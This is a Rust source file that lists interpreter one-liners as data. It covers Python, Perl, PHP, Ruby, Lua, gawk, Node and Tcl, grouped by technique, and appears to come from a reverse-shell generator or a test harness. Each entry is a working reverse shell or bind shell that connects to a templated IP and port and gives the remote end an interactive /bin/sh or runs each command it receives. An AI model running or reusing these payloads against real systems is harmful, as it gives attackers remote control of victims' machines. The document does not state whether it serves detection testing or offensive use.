//! Interpreters: one-liners that dup and exec, that hold pipes, or that run each command themselves.

use super::super::variant::{Class, Variant};

pub(super) const ALL: &[Variant] = &[
    Variant::tcp(
        "python3 dup2",
        Class::Direct,
        &["/usr/bin/python3"],
        &[
            "/usr/bin/python3",
            "-c",
            "import os,socket\n\
             s=socket.create_connection(('{ip}',{port}))\n\
             for f in (0,1,2): os.dup2(s.fileno(),f)\n\
             os.execv('/bin/sh',['sh','-i'])",
        ],
    ),
    Variant::tcp(
        "python3 subprocess per command",
        Class::Loop,
        &["/usr/bin/python3"],
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,subprocess\n\
             s=socket.create_connection(('{ip}',{port}))\n\
             while True:\n\
             \x20c=s.recv(1024)\n\
             \x20if not c: break\n\
             \x20s.sendall(subprocess.run(c.decode(),shell=True,capture_output=True).stdout)",
        ],
    )
    .per_command(),
    Variant::tcp(
        "python3 threads over pipes",
        Class::Pipe,
        &["/usr/bin/python3"],
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,subprocess,threading\n\
             s=socket.create_connection(('{ip}',{port}))\n\
             p=subprocess.Popen(['/bin/sh'],stdin=-1,stdout=-1,stderr=-2,bufsize=0)\n\
             def up():\n\
             \x20while True:\n\
             \x20 b=p.stdout.read(1024)\n\
             \x20 if not b: break\n\
             \x20 s.sendall(b)\n\
             threading.Thread(target=up,daemon=True).start()\n\
             while True:\n\
             \x20b=s.recv(1024)\n\
             \x20if not b: break\n\
             \x20p.stdin.write(b)",
        ],
    ),
    Variant::tcp(
        "perl",
        Class::Direct,
        &["perl"],
        &[
            "perl",
            "-MIO::Socket::IP",
            "-e",
            "$s=IO::Socket::IP->new(PeerHost=>'{ip}',PeerPort=>{port},Proto=>'tcp');\
             open(STDIN,'<&',$s);open(STDOUT,'>&',$s);open(STDERR,'>&',$s);exec('/bin/sh','-i')",
        ],
    ),
    Variant::tcp(
        "perl loop",
        Class::Loop,
        &["perl"],
        &[
            "perl",
            "-MIO::Socket::IP",
            "-e",
            "$s=IO::Socket::IP->new(PeerHost=>'{ip}',PeerPort=>{port},Proto=>'tcp');$s->autoflush(1);\
             while(<$s>){print $s `$_`}",
        ],
    )
    .per_command(),
    Variant::tcp(
        "php",
        Class::Direct,
        &["php"],
        &["php", "-r", "$s=fsockopen('tcp://{host}',{port});$p=proc_open('/bin/sh -i',[$s,$s,$s],$x);proc_close($p);"],
    ),
    Variant::tcp(
        "ruby",
        Class::Direct,
        &["ruby"],
        &["ruby", "-rsocket", "-e", "s=TCPSocket.new('{ip}',{port});exec('/bin/sh','-i',in: s,out: s,err: s)"],
    ),
    Variant::tcp(
        "ruby popen loop",
        Class::Loop,
        &["ruby"],
        &[
            "ruby",
            "-rsocket",
            "-e",
            "s=TCPSocket.new('{ip}',{port});while(c=s.gets);IO.popen(c,'r'){|io|s.print io.read};end",
        ],
    )
    .per_command(),
    Variant::tcp(
        "lua",
        Class::Loop,
        &["lua5.4", "/usr/share/lua/5.4/socket.lua"],
        &[
            "lua5.4",
            "-e",
            "local s=assert(require('socket').connect('{ip}',{port}));while true do local c=s:receive();\
             if not c then break end;local f=io.popen(c,'r');s:send(f:read('*a'));f:close() end",
        ],
    )
    .per_command(),
    Variant::tcp(
        "gawk /inet",
        Class::Loop,
        &["gawk"],
        &[
            "gawk",
            "BEGIN{s=\"/inet{n}/tcp/0/{ip}/{port}\";while((s|&getline c)>0){while((c|getline r)>0)print r|&s;close(c)}}",
        ],
    )
    .per_command(),
    Variant::tcp(
        "node",
        Class::SocketPair,
        &["/usr/bin/node"],
        &[
            "/usr/bin/node",
            "-e",
            "const n=require('net'),c=require('child_process'),s=n.connect({port},'{ip}',()=>{\
             const h=c.spawn('/bin/sh',[]);s.pipe(h.stdin);h.stdout.pipe(s);h.stderr.pipe(s)});s.on('error',()=>{})",
        ],
    ),
    Variant::tcp(
        "tclsh",
        Class::Loop,
        &["tclsh"],
        &["sh", "-c", "echo 'set s [socket {ip} {port}]; fconfigure $s -buffering line; while {[gets $s c] >= 0} {catch {exec sh -c $c} r; puts $s $r}' | tclsh"],
    )
    .per_command(),
    Variant::tcp(
        "python3 bind",
        Class::Bind,
        &["/usr/bin/python3"],
        &[
            "/usr/bin/python3",
            "-c",
            "import os,socket\n\
             l=socket.create_server(('{ip}',{port}),family=socket.AF_INET6 if ':' in '{ip}' else socket.AF_INET)\n\
             s,_=l.accept()\n\
             for f in (0,1,2): os.dup2(s.fileno(),f)\n\
             os.execv('/bin/sh',['sh','-i'])",
        ],
    )
    .listening(),
];
